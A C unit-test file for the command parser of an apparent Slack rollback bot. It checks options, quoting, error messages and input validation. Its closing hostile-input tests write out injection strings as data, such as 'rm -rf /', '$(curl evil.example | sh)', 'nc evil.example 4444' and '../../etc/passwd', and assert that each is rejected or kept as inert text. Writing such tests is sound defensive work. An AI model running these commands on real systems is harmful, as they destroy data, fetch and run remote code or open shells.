/* rollbot — unit tests of commands/parse*.c (MIT licence, see LICENSE).
 *
 * One behaviour per test. Every error message is asserted word for word:
 * they are the product here, read by someone on call at 3 a.m. The hostile
 * inputs at the end each assert their exact outcome, and every result that
 * parses is checked to hold only allowed characters in service and target.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "commands/parse.h"
#include "commands/rb.h"

static const struct cmd_service services[] = {
	{ "payments-api", PLAN_TARGET_REVISION, PLAN_KUBECTL, true },
	{ "search", PLAN_TARGET_NONE, PLAN_BLUEGREEN, false },
	{ "checkout-flag", PLAN_TARGET_NONE, PLAN_FLAG, false },
	{ "legacy-web", PLAN_TARGET_VERSION, PLAN_DOCKER, false },
	{ "thumbnailer", PLAN_TARGET_REVISION, PLAN_LAMBDA, false },
	{ "ledger", PLAN_TARGET_VERSION, PLAN_SCRIPT, false },
};
#define N_SERVICES RB_ARRAY_LEN(services)
#define KNOWN \
	"Known services: payments-api, search, checkout-flag, legacy-web, thumbnailer, ledger."
#define PAY_NOT_REVISION " is not a revision: payments-api takes a revision number, e.g. `--to 41`."
#define WEB_NOT_VERSION                                                                      \
	" is not a version: legacy-web takes a version of letters, digits, . _ and -, e.g. " \
	"`--to v2.0.1`."
#define BAD_NAME " is not a valid service name: use letters, digits, -, _ and . only."
#define STRAY	 " after the service name. Put free text in --reason \"…\"."

static bool only_chars(const char *s, const char *extra)
{
	for (; *s; s++)
		if (!((*s >= 'a' && *s <= 'z') || (*s >= 'A' && *s <= 'Z') ||
		      (*s >= '0' && *s <= '9') || strchr(extra, *s)))
			return false;
	return true;
}

/* Whatever parsed, the fields that reach an argv hold only these. */
static void assert_safe_fields(const struct cmd *c)
{
	assert_true(only_chars(c->service, "-_."));
	assert_true(only_chars(c->target, "-_."));
	assert_null(strstr(c->target, ".."));
	assert_true(c->target[0] != '-');
}

static void parse_ok_in(const char *text, const struct cmd_service *svcs, size_t n, struct cmd *c)
{
	char err[CMD_ERR_LEN];
	int rc = cmd_parse(text, svcs, n, c, err, sizeof err);

	if (rc != 0)
		fail_msg("cmd_parse(\"%s\") = %d: %s", text, rc, err);
	assert_string_equal(err, "");
	assert_safe_fields(c);
}

static void parse_ok(const char *text, struct cmd *c)
{
	parse_ok_in(text, services, N_SERVICES, c);
}

static void parse_err_in(const char *text, const struct cmd_service *svcs, size_t n, int want_rc,
			 const char *want)
{
	char err[CMD_ERR_LEN];
	struct cmd c;
	int rc = cmd_parse(text, svcs, n, &c, err, sizeof err);

	assert_int_equal(rc, want_rc);
	assert_string_equal(err, want);
	assert_null(strchr(err, '\n'));
	/* Nothing half-parsed is left behind. */
	assert_int_equal(c.kind, CMD_ROLLBACK);
	assert_string_equal(c.service, "");
	assert_string_equal(c.target, "");
	assert_string_equal(c.reason, "");
	assert_int_equal(c.severity, CMD_SEV_UNSET);
	assert_false(c.dry_run);
	assert_false(c.with_db);
	assert_string_equal(c.incident, "");
	assert_false(c.post);
}

static void parse_err(const char *text, int want_rc, const char *want)
{
	parse_err_in(text, services, N_SERVICES, want_rc, want);
}

static void assert_help(const char *text)
{
	struct cmd c;

	parse_ok(text, &c);
	assert_int_equal(c.kind, CMD_HELP);
	assert_string_equal(c.service, "");
}

/* ---- happy paths ---------------------------------------------------- */

static void test_full_command(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --to 41 --severity P1 --reason \"checkout 5xx at 6%\" --dry-run",
		 &c);
	assert_int_equal(c.kind, CMD_ROLLBACK);
	assert_string_equal(c.service, "payments-api");
	assert_string_equal(c.target, "41");
	assert_int_equal(c.severity, CMD_SEV_P1);
	assert_string_equal(c.reason, "checkout 5xx at 6%");
	assert_true(c.dry_run);
}

static void test_service_alone_leaves_everything_unset(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api", &c);
	assert_int_equal(c.kind, CMD_ROLLBACK);
	assert_string_equal(c.service, "payments-api");
	assert_string_equal(c.target, "");
	assert_int_equal(c.severity, CMD_SEV_UNSET);
	assert_string_equal(c.reason, "");
	assert_false(c.dry_run);
}

static void test_equals_forms(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --to=41 --severity=P0 --reason=\"site down\"", &c);
	assert_string_equal(c.target, "41");
	assert_int_equal(c.severity, CMD_SEV_P0);
	assert_string_equal(c.reason, "site down");
}

static void test_reason_keeps_equals_signs_after_the_first(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason=\"p99=2s\"", &c);
	assert_string_equal(c.reason, "p99=2s");
}

static void test_options_before_service(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("--severity P2 --to 7 payments-api", &c);
	assert_string_equal(c.service, "payments-api");
	assert_string_equal(c.target, "7");
	assert_int_equal(c.severity, CMD_SEV_P2);
}

static void test_smart_double_quotes(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason “checkout 5xx at 6%”", &c);
	assert_string_equal(c.reason, "checkout 5xx at 6%");
}

static void test_smart_single_quotes(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason ‘card declines’", &c);
	assert_string_equal(c.reason, "card declines");
}

static void test_mismatched_smart_quotes_still_close(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason ”card declines\"", &c);
	assert_string_equal(c.reason, "card declines");
}

static void test_single_quotes(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason 'card declines'", &c);
	assert_string_equal(c.reason, "card declines");
}

static void test_apostrophe_inside_single_quotes(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason 'it's late'", &c);
	assert_string_equal(c.reason, "it's late");
}

static void test_smart_apostrophe_inside_smart_quotes(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason=“it’s broken”", &c);
	assert_string_equal(c.reason, "it’s broken");
}

static void test_double_quote_inside_single_quotes(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason 'the \"pay\" button'", &c);
	assert_string_equal(c.reason, "the \"pay\" button");
}

static void test_reason_single_unquoted_word(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason deploy-broke-checkout", &c);
	assert_string_equal(c.reason, "deploy-broke-checkout");
}

static void test_reason_unquoted_word_with_apostrophe(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason don't", &c);
	assert_string_equal(c.reason, "don't");
}

static void test_reason_decodes_slack_escapes(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason \"errors &amp; timeouts &lt;50%&gt;\"", &c);
	assert_string_equal(c.reason, "errors & timeouts <50%>");
}

static void test_reason_decodes_escapes_once(void **state)
{
	struct cmd c;
	(void)state;
	/* The person typed "&lt;"; Slack sent "&amp;lt;". */
	parse_ok("payments-api --reason \"a &amp;lt; b\"", &c);
	assert_string_equal(c.reason, "a &lt; b");
}

static void test_reason_keeps_unknown_entities(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason \"&quot;x&quot; &#39;\"", &c);
	assert_string_equal(c.reason, "&quot;x&quot; &#39;");
}

static void test_reason_user_mention_becomes_name(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason \"paged <@U02JD0E4512|jane.doe> and <@U03ASM1TH7Q>\"", &c);
	assert_string_equal(c.reason, "paged @jane.doe and @U03ASM1TH7Q");
}

static void test_reason_channel_group_and_special_mentions(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason \"see <#C05K8Q2V7XM|incidents> <!subteam^S05RLMGRS1|@sre> "
		 "<!here>\"",
		 &c);
	assert_string_equal(c.reason, "see #incidents @sre @here");
}

static void test_reason_links(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason \"<https://grafana.example.com/d/a?x=1&amp;y=2|dashboard> "
		 "<https://status.example.com> <http://example.com|example.com>\"",
		 &c);
	assert_string_equal(c.reason, "dashboard (https://grafana.example.com/d/a?x=1&y=2) "
				      "https://status.example.com example.com");
}

static void test_reason_quote_inside_slack_token_is_not_a_quote(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason <@U1|o\"brien>", &c);
	assert_string_equal(c.reason, "@o\"brien");
}

static void test_reason_of_500_characters(void **state)
{
	char text[64 + 2 * 500];
	size_t n;
	struct cmd c;
	(void)state;
	/* 500 two-byte characters: the limit counts characters, not bytes. */
	n = (size_t)snprintf(text, sizeof text, "payments-api --reason ");
	for (int i = 0; i < 500; i++, n += 2)
		memcpy(text + n, "\xc3\xa9", 2);
	text[n] = '\0';
	parse_ok(text, &c);
	assert_int_equal(strlen(c.reason), 1000);
}

static void test_dry_run(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("search --dry-run", &c);
	assert_string_equal(c.service, "search");
	assert_true(c.dry_run);
}

static void test_dry_run_twice_is_harmless(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("search --dry-run --dry-run", &c);
	assert_true(c.dry_run);
}

static void test_severity_lower_case(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --severity p3", &c);
	assert_int_equal(c.severity, CMD_SEV_P3);
}

static void test_version_target(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("legacy-web --to v2.0.1", &c);
	assert_string_equal(c.target, "v2.0.1");
}

static void test_quoted_target(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --to \"41\"", &c);
	assert_string_equal(c.target, "41");
}

static void test_em_dash_counts_as_two_hyphens(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api —to 41 –severity P1", &c);
	assert_string_equal(c.target, "41");
	assert_int_equal(c.severity, CMD_SEV_P1);
}

static void test_tabs_newlines_and_nbsp_separate_words(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("  payments-api\t--to\n41\xc2\xa0--dry-run  ", &c);
	assert_string_equal(c.service, "payments-api");
	assert_string_equal(c.target, "41");
	assert_true(c.dry_run);
}

static void test_help_word(void **state)
{
	(void)state;
	assert_help("help");
}

static void test_help_word_any_case(void **state)
{
	(void)state;
	assert_help("Help");
}

static void test_help_long_option(void **state)
{
	(void)state;
	assert_help("--help");
}

static void test_help_short_option(void **state)
{
	(void)state;
	assert_help("-h");
}

static void test_help_empty_text(void **state)
{
	(void)state;
	assert_help("");
}

static void test_help_blank_text(void **state)
{
	(void)state;
	assert_help(" \t ");
}

static void test_help_null_text(void **state)
{
	(void)state;
	assert_help(NULL);
}

static void test_help_after_service(void **state)
{
	(void)state;
	assert_help("payments-api --help");
}

static void test_error_buffer_may_be_small(void **state)
{
	char err[16];
	struct cmd c;
	(void)state;
	assert_int_equal(cmd_parse("frobnicator", services, N_SERVICES, &c, err, sizeof err),
			 CMD_EUNKNOWN);
	assert_string_equal(err, "Unknown service");
}

/* ---- syntax errors -------------------------------------------------- */

static void test_unknown_option_suggests_near_miss(void **state)
{
	(void)state;
	parse_err(
		"payments-api --sevrity P1", CMD_ESYNTAX,
		"Unknown option `--sevrity`. Did you mean `--severity`? Options: --to, --severity, "
		"--reason, --dry-run, --with-db.");
}

static void test_unknown_option_in_upper_case_suggests_lower(void **state)
{
	(void)state;
	parse_err(
		"payments-api --TO 41", CMD_ESYNTAX,
		"Unknown option `--TO`. Did you mean `--to`? Options: --to, --severity, --reason, "
		"--dry-run, --with-db.");
}

static void test_unknown_option_without_near_miss(void **state)
{
	(void)state;
	parse_err("payments-api --force", CMD_ESYNTAX,
		  "Unknown option `--force`. Options: --to, --severity, --reason, --dry-run, --with-db.");
}

static void test_unknown_short_option(void **state)
{
	(void)state;
	parse_err("payments-api -f", CMD_ESYNTAX,
		  "Unknown option `-f`. Options: --to, --severity, --reason, --dry-run, --with-db.");
}

static void test_to_needs_value_at_end(void **state)
{
	(void)state;
	parse_err("payments-api --to", CMD_ESYNTAX, "`--to` needs a value, e.g. `--to 41`.");
}

static void test_to_needs_value_before_option(void **state)
{
	(void)state;
	parse_err("payments-api --to --dry-run", CMD_ESYNTAX,
		  "`--to` needs a value, e.g. `--to 41`.");
}

static void test_to_equals_empty_needs_value(void **state)
{
	(void)state;
	parse_err("payments-api --to=", CMD_ESYNTAX, "`--to` needs a value, e.g. `--to 41`.");
}

static void test_severity_needs_value(void **state)
{
	(void)state;
	parse_err("payments-api --severity", CMD_ESYNTAX,
		  "`--severity` needs a value: P0, P1, P2 or P3.");
}

static void test_reason_needs_value(void **state)
{
	(void)state;
	parse_err("payments-api --reason --to 41", CMD_ESYNTAX,
		  "`--reason` needs a value, e.g. `--reason \"checkout 5xx at 6%\"`.");
}

static void test_dry_run_takes_no_value(void **state)
{
	(void)state;
	parse_err("payments-api --dry-run=yes", CMD_ESYNTAX, "`--dry-run` takes no value.");
}

static void test_unclosed_quote_names_column(void **state)
{
	(void)state;
	parse_err("payments-api --reason \"checkout down", CMD_ESYNTAX,
		  "The quote opened at column 23 is never closed.");
}

static void test_unclosed_smart_quote_names_column(void **state)
{
	(void)state;
	parse_err("payments-api --reason “checkout down", CMD_ESYNTAX,
		  "The quote opened at column 23 is never closed.");
}

static void test_unclosed_quote_column_counts_characters_as_typed(void **state)
{
	(void)state;
	/* "&amp;" is one character typed, "é" one character of two bytes. */
	parse_err("payments-api --reason a&amp;é 'x", CMD_ESYNTAX,
		  "The quote opened at column 27 is never closed.");
}

static void test_quote_closed_only_before_space(void **state)
{
	(void)state;
	parse_err("payments-api --reason \"a\"b", CMD_ESYNTAX,
		  "The quote opened at column 23 is never closed.");
}

static void test_to_given_twice(void **state)
{
	(void)state;
	parse_err("payments-api --to 41 --to 40", CMD_ESYNTAX, "`--to` given twice.");
}

static void test_severity_given_twice(void **state)
{
	(void)state;
	parse_err("payments-api --severity P1 --severity P0", CMD_ESYNTAX,
		  "`--severity` given twice.");
}

static void test_reason_given_twice(void **state)
{
	(void)state;
	parse_err("payments-api --reason a --reason b", CMD_ESYNTAX, "`--reason` given twice.");
}

static void test_stray_word(void **state)
{
	(void)state;
	parse_err("payments-api foo", CMD_ESYNTAX, "Unexpected `foo`" STRAY);
}

static void test_stray_number_suggests_to(void **state)
{
	(void)state;
	parse_err("payments-api 41", CMD_ESYNTAX,
		  "Unexpected `41` after the service name. Did you mean `--to 41`?");
}

static void test_stray_number_after_to_is_plain_stray(void **state)
{
	(void)state;
	parse_err("payments-api --to 4 1", CMD_ESYNTAX, "Unexpected `1`" STRAY);
}

static void test_stray_number_on_bluegreen_is_plain_stray(void **state)
{
	(void)state;
	parse_err("search 41", CMD_ESYNTAX, "Unexpected `41`" STRAY);
}

static void test_stray_severity_suggests_option(void **state)
{
	(void)state;
	parse_err("payments-api p0", CMD_ESYNTAX,
		  "Unexpected `p0` after the service name. Did you mean `--severity P0`?");
}

static void test_unquoted_reason_of_several_words(void **state)
{
	(void)state;
	parse_err("payments-api --reason checkout broken", CMD_ESYNTAX,
		  "Unexpected `broken`. A reason of several words needs quotes, e.g. "
		  "`--reason \"checkout 5xx at 6%\"`.");
}

static void test_no_service(void **state)
{
	(void)state;
	parse_err("--to 41", CMD_ESYNTAX,
		  "Which service? Usage: /rollback SERVICE [--to REVISION] [--severity P0-P3] "
		  "[--reason \"…\"] [--dry-run] [--with-db]");
}

static void test_no_service_only_dry_run(void **state)
{
	(void)state;
	parse_err("--dry-run", CMD_ESYNTAX,
		  "Which service? Usage: /rollback SERVICE [--to REVISION] [--severity P0-P3] "
		  "[--reason \"…\"] [--dry-run] [--with-db]");
}

static void test_empty_quoted_service(void **state)
{
	(void)state;
	parse_err("\"\" --to 41", CMD_ESYNTAX,
		  "Which service? Usage: /rollback SERVICE [--to REVISION] [--severity P0-P3] "
		  "[--reason \"…\"] [--dry-run] [--with-db]");
}

static void test_text_too_long(void **state)
{
	char text[10001];
	(void)state;
	memset(text, 'a', sizeof text - 1);
	text[sizeof text - 1] = '\0';
	parse_err(
		text, CMD_ESYNTAX,
		"That command is too long for rollbot (more than 4000 characters). A --reason may "
		"be at most 500 characters.");
}

static void test_invalid_utf8(void **state)
{
	(void)state;
	parse_err("payments-api --reason \"\xc3\x28\"", CMD_ESYNTAX,
		  "The command contains bytes that are not valid UTF-8 text; please retype it.");
}

/* ---- services ------------------------------------------------------- */

static void test_unknown_service_lists_known(void **state)
{
	(void)state;
	parse_err("frobnicator", CMD_EUNKNOWN, "Unknown service `frobnicator`. " KNOWN);
}

static void test_unknown_service_suggests_near_miss(void **state)
{
	(void)state;
	parse_err("paymnts-api --to 41", CMD_EUNKNOWN,
		  "Unknown service `paymnts-api`. Did you mean `payments-api`? " KNOWN);
}

static void test_unknown_service_in_other_case(void **state)
{
	(void)state;
	parse_err("Payments-API", CMD_EUNKNOWN,
		  "Unknown service `Payments-API`. Did you mean `payments-api`? Service names are "
		  "lower-case.");
}

static void test_unknown_service_with_none_configured(void **state)
{
	(void)state;
	parse_err_in("payments-api", NULL, 0, CMD_EUNKNOWN,
		     "Unknown service `payments-api`. No services are configured: add them under "
		     "`services:` in rollbot.yaml.");
}

static void test_unknown_service_long_list_is_cut(void **state)
{
	static struct cmd_service many[60];
	static char names[60][40];
	char err[CMD_ERR_LEN];
	struct cmd c;
	(void)state;
	for (int i = 0; i < 60; i++) {
		snprintf(names[i], sizeof names[i], "service-number-%02d-of-many", i);
		many[i] = (struct cmd_service){ names[i], PLAN_TARGET_REVISION, PLAN_KUBECTL, false };
	}
	assert_int_equal(cmd_parse("zzz", many, 60, &c, err, sizeof err), CMD_EUNKNOWN);
	assert_true(strlen(err) < sizeof err - 1);
	assert_non_null(strstr(err, "service-number-00-of-many, service-number-01-of-many"));
	assert_string_equal(err + strlen(err) - strlen(", …."), ", ….");
}

static void test_service_with_shell_characters(void **state)
{
	(void)state;
	parse_err("payments-api;rm", CMD_EVALUE, "`payments-api;rm`" BAD_NAME);
}

static void test_service_starting_with_dot(void **state)
{
	(void)state;
	parse_err(".hidden", CMD_EVALUE,
		  "`.hidden` is not a valid service name: it must start with a letter or digit.");
}

static void test_service_too_long(void **state)
{
	char text[65];
	(void)state;
	memset(text, 'a', 64);
	text[64] = '\0';
	parse_err(text, CMD_EVALUE,
		  "`aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa…` is not a valid service name: it is "
		  "longer than 63 characters.");
}

/* ---- targets -------------------------------------------------------- */

static void test_revision_with_letters(void **state)
{
	(void)state;
	parse_err("payments-api --to 41a", CMD_EVALUE, "`41a`" PAY_NOT_REVISION);
}

static void test_revision_with_leading_zero(void **state)
{
	(void)state;
	parse_err("payments-api --to 041", CMD_EVALUE, "`041`" PAY_NOT_REVISION);
}

static void test_revision_checked_when_service_comes_last(void **state)
{
	(void)state;
	parse_err("--to v2 payments-api", CMD_EVALUE, "`v2`" PAY_NOT_REVISION);
}

static void test_lambda_revision(void **state)
{
	(void)state;
	parse_err("thumbnailer --to $LATEST", CMD_EVALUE,
		  "`$LATEST` is not a revision: thumbnailer takes a revision number, e.g. "
		  "`--to 41`.");
}

static void test_version_with_path(void **state)
{
	(void)state;
	parse_err("legacy-web --to ../x", CMD_EVALUE, "`../x`" WEB_NOT_VERSION);
}

static void test_to_refused_for_bluegreen(void **state)
{
	(void)state;
	parse_err("search --to 41", CMD_EVALUE,
		  "`--to` does not apply to search: bluegreen rollbacks always go back to the blue "
		  "environment. Run `/rollback search` without --to.");
}

static void test_to_refused_for_flag(void **state)
{
	(void)state;
	parse_err("checkout-flag --to 41", CMD_EVALUE,
		  "`--to` does not apply to checkout-flag: flag rollbacks always go back to flag "
		  "off (0%). Run `/rollback checkout-flag` without --to.");
}

static void test_to_refused_before_value_is_read(void **state)
{
	(void)state;
	parse_err("search --to", CMD_EVALUE,
		  "`--to` does not apply to search: bluegreen rollbacks always go back to the blue "
		  "environment. Run `/rollback search` without --to.");
}

static void test_to_refused_when_service_comes_last(void **state)
{
	(void)state;
	parse_err("--to 41 search", CMD_EVALUE,
		  "`--to` does not apply to search: bluegreen rollbacks always go back to the blue "
		  "environment. Run `/rollback search` without --to.");
}

static void test_to_refused_with_generic_reason_when_method_disagrees(void **state)
{
	static const struct cmd_service odd[] = { { "odd", PLAN_TARGET_NONE, PLAN_KUBECTL, false } };
	(void)state;
	parse_err_in("odd --to 4", odd, 1, CMD_EVALUE,
		     "`--to` does not apply to odd: its rollback always goes back to one fixed "
		     "place. Run `/rollback odd` without --to.");
}

/* ---- severity ------------------------------------------------------- */

static void test_severity_word(void **state)
{
	(void)state;
	parse_err("payments-api --severity high", CMD_EVALUE,
		  "`--severity` must be P0, P1, P2 or P3, not `high`.");
}

static void test_severity_out_of_range(void **state)
{
	(void)state;
	parse_err("payments-api --severity P4", CMD_EVALUE,
		  "`--severity` must be P0, P1, P2 or P3, not `P4`.");
}

static void test_severity_names(void **state)
{
	(void)state;
	assert_string_equal(cmd_severity_name(CMD_SEV_P0), "P0");
	assert_string_equal(cmd_severity_name(CMD_SEV_P3), "P3");
	assert_string_equal(cmd_severity_name(CMD_SEV_UNSET), "");
	assert_string_equal(cmd_severity_name((enum cmd_severity)9), "");
}

static void test_severity_from_name(void **state)
{
	enum cmd_severity s = CMD_SEV_UNSET;
	(void)state;
	assert_int_equal(cmd_severity_from_name("P2", &s), 0);
	assert_int_equal(s, CMD_SEV_P2);
	assert_int_equal(cmd_severity_from_name("p0", &s), 0);
	assert_int_equal(s, CMD_SEV_P0);
}

static void test_severity_from_bad_name(void **state)
{
	enum cmd_severity s = CMD_SEV_P1;
	(void)state;
	assert_int_equal(cmd_severity_from_name("P", &s), RB_EINVAL);
	assert_int_equal(cmd_severity_from_name("P10", &s), RB_EINVAL);
	assert_int_equal(cmd_severity_from_name("1", &s), RB_EINVAL);
	assert_int_equal(cmd_severity_from_name(NULL, &s), RB_EINVAL);
	assert_int_equal(s, CMD_SEV_P1);
}

/* ---- reasons -------------------------------------------------------- */

static void test_reason_empty(void **state)
{
	(void)state;
	parse_err("payments-api --reason \"\"", CMD_EVALUE,
		  "`--reason` is empty. Say in a few words what is wrong, e.g. "
		  "`--reason \"checkout 5xx at 6%\"`.");
}

static void test_reason_too_long(void **state)
{
	char text[600];
	(void)state;
	snprintf(text, sizeof text, "payments-api --reason %0501d", 0);
	parse_err(text, CMD_EVALUE,
		  "The reason is 501 characters long; the limit is 500. Put the details in the "
		  "incident thread.");
}

static void test_reason_line_break(void **state)
{
	(void)state;
	parse_err("payments-api --reason \"one\ntwo\"", CMD_EVALUE,
		  "The reason has a line break; keep it on one line.");
}

static void test_reason_control_character(void **state)
{
	(void)state;
	parse_err("payments-api --reason \"bell\a\"", CMD_EVALUE,
		  "The reason contains a control character (U+0007); use plain text.");
}

static void test_reason_command_substitution(void **state)
{
	struct cmd c;

	(void)state;
	parse_ok("payments-api --reason \"see $(id)\"", &c);
	assert_string_equal(c.reason, "see $(id)");
}

static void test_reason_parameter_expansion(void **state)
{
	struct cmd c;

	(void)state;
	parse_ok("payments-api --reason \"home ${HOME}\"", &c);
	assert_string_equal(c.reason, "home ${HOME}");
}

static void test_reason_backtick(void **state)
{
	struct cmd c;

	(void)state;
	/* Free text (issue 11, item 11): quoted commands are accepted as typed. */
	parse_ok("payments-api --reason \"`id` &amp; &lt;b&gt; *bold*\"", &c);
	assert_string_equal(c.reason, "`id` & <b> *bold*");
}

static void test_reason_plain_dollar_is_fine(void **state)
{
	struct cmd c;
	(void)state;
	parse_ok("payments-api --reason \"lost $5k/min\"", &c);
	assert_string_equal(c.reason, "lost $5k/min");
}

/* ---- messages are safe mrkdwn --------------------------------------- */

static void test_echo_escapes_slack_control_characters(void **state)
{
	(void)state;
	/* The person typed "<!channel>"; echoing it raw would ping the channel. */
	parse_err("&lt;!channel&gt;", CMD_EVALUE, "`&lt;!channel&gt;`" BAD_NAME);
}

static void test_echo_is_cut_at_40_characters(void **state)
{
	(void)state;
	parse_err("payments-api --abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz",
		  CMD_ESYNTAX,
		  "Unknown option `--abcdefghijklmnopqrstuvwxyzabcdefghijkl…`. Options: --to, "
		  "--severity, --reason, --dry-run, --with-db.");
}

static void test_usage_mentions_grammar_and_options(void **state)
{
	const char *u = cmd_usage();
	(void)state;
	assert_non_null(strstr(u, "`/rollback SERVICE [--to REVISION]"));
	assert_non_null(strstr(u, "`--to`"));
	assert_non_null(strstr(u, "`--severity`"));
	assert_non_null(strstr(u, "`--reason`"));
	assert_non_null(strstr(u, "`--dry-run`"));
	assert_non_null(strstr(u, "*Examples*"));
	assert_null(strstr(u, "**"));
}

/* ---- hostile input -------------------------------------------------- *
 * Each asserts the exact outcome. Rejections go through parse_err, which
 * also checks nothing was left in *out; acceptances go through parse_ok,
 * which checks service and target hold only allowed characters. */

#define HOSTILE_REJECTED(fn, text, rc, msg) \
	static void fn(void **state)        \
	{                                   \
		(void)state;                \
		parse_err(text, rc, msg);   \
	}

HOSTILE_REJECTED(test_hostile_semicolon_in_service, "payments-api;rm -rf /", CMD_EVALUE,
		 "`payments-api;rm`" BAD_NAME)
HOSTILE_REJECTED(test_hostile_semicolon_after_service, "payments-api; rm -rf /", CMD_EVALUE,
		 "`payments-api;`" BAD_NAME)
HOSTILE_REJECTED(test_hostile_semicolon_in_target, "payments-api --to 41;reboot", CMD_EVALUE,
		 "`41;reboot`" PAY_NOT_REVISION)
HOSTILE_REJECTED(test_hostile_command_substitution_target, "payments-api --to $(id)", CMD_EVALUE,
		 "`$(id)`" PAY_NOT_REVISION)
HOSTILE_REJECTED(test_hostile_backticks_target, "payments-api --to `id`", CMD_EVALUE,
		 "`'id'`" PAY_NOT_REVISION)
/* Free text is accepted as typed: it never reaches an argv (test_plan and
 * test_hostile check it only ever lands in ROLLBOT_REASON). */
#define HOSTILE_REASON(fn, text, want)      \
	static void fn(void **state)        \
	{                                   \
		struct cmd c;               \
		(void)state;                \
		parse_ok(text, &c);         \
		assert_string_equal(c.reason, want); \
	}
HOSTILE_REASON(test_hostile_command_substitution_reason,
	       "payments-api --reason \"$(curl evil.example | sh)\"", "$(curl evil.example | sh)")
HOSTILE_REASON(test_hostile_ifs_reason, "payments-api --reason ${IFS}x", "${IFS}x")
HOSTILE_REASON(test_hostile_unquoted_backticks_reason, "payments-api --reason `id`", "`id`")
HOSTILE_REJECTED(test_hostile_pipe, "payments-api | nc evil.example 4444", CMD_ESYNTAX,
		 "Unexpected `|`" STRAY)
HOSTILE_REJECTED(test_hostile_and_and, "payments-api &amp;&amp; curl evil.example", CMD_ESYNTAX,
		 "Unexpected `&amp;&amp;`" STRAY)
HOSTILE_REJECTED(test_hostile_newline_between_commands, "payments-api\nrm -rf /", CMD_ESYNTAX,
		 "Unexpected `rm`" STRAY)
HOSTILE_REJECTED(test_hostile_newline_in_reason, "payments-api --reason \"ok\r\n--to 1\"",
		 CMD_EVALUE, "The reason has a line break; keep it on one line.")
HOSTILE_REJECTED(test_hostile_unicode_line_separator_in_reason,
		 "payments-api --reason \"ok\xe2\x80\xa8--to 1\"", CMD_EVALUE,
		 "The reason has a line break; keep it on one line.")
HOSTILE_REJECTED(test_hostile_kubeconfig_option, "payments-api --kubeconfig=/tmp/x", CMD_ESYNTAX,
		 "Unknown option `--kubeconfig`. Options: --to, --severity, --reason, --dry-run, --with-db.")
HOSTILE_REJECTED(test_hostile_context_option, "payments-api --to 41 --context=evil", CMD_ESYNTAX,
		 "Unknown option `--context`. Options: --to, --severity, --reason, --dry-run, --with-db.")
HOSTILE_REJECTED(test_hostile_path_as_service, "../../etc/passwd", CMD_EVALUE,
		 "`../../etc/passwd`" BAD_NAME)
HOSTILE_REJECTED(test_hostile_path_as_version, "legacy-web --to ../../etc/passwd", CMD_EVALUE,
		 "`../../etc/passwd`" WEB_NOT_VERSION)
HOSTILE_REJECTED(test_hostile_option_as_version, "legacy-web --to -rf", CMD_EVALUE,
		 "`-rf`" WEB_NOT_VERSION)
HOSTILE_REJECTED(test_hostile_option_as_revision, "payments-api --to=--force", CMD_EVALUE,
		 "`--force`" PAY_NOT_REVISION)
HOSTILE_REJECTED(test_hostile_dot_dot_version, "legacy-web --to v1..2", CMD_EVALUE,
		 "`v1..2`" WEB_NOT_VERSION)
HOSTILE_REJECTED(test_hostile_huge_revision, "payments-api --to 10000000000", CMD_EVALUE,
		 "`10000000000`" PAY_NOT_REVISION)
HOSTILE_REJECTED(test_hostile_control_character_in_reason,
		 "payments-api --reason \"a\x01"
		 "b\"",
		 CMD_EVALUE, "The reason contains a control character (U+0001); use plain text.")
HOSTILE_REJECTED(test_hostile_escape_sequence_in_reason,
		 "payments-api --reason \"\x1b[2J cleared\"", CMD_EVALUE,
		 "The reason contains a control character (U+001B); use plain text.")
HOSTILE_REJECTED(test_hostile_control_character_in_service, "payments-api\x01", CMD_EVALUE,
		 "`payments-api?`" BAD_NAME)
HOSTILE_REJECTED(test_hostile_del_in_target, "payments-api --to 4\x7f", CMD_EVALUE,
		 "`4?`" PAY_NOT_REVISION)
HOSTILE_REJECTED(test_hostile_percent_nul_in_target, "payments-api --to 41%00", CMD_EVALUE,
		 "`41%00`" PAY_NOT_REVISION)
HOSTILE_REJECTED(test_hostile_cyrillic_lookalike_service, "p\xd0\xb0yments-api", CMD_EVALUE,
		 "`p\xd0\xb0yments-api`" BAD_NAME)
HOSTILE_REJECTED(test_hostile_unicode_hyphen_service,
		 "payments\xe2\x80\x90"
		 "api",
		 CMD_EVALUE,
		 "`payments\xe2\x80\x90"
		 "api`" BAD_NAME)
HOSTILE_REJECTED(test_hostile_fullwidth_digits_target, "payments-api --to \xef\xbc\x94\xef\xbc\x91",
		 CMD_EVALUE, "`\xef\xbc\x94\xef\xbc\x91`" PAY_NOT_REVISION)
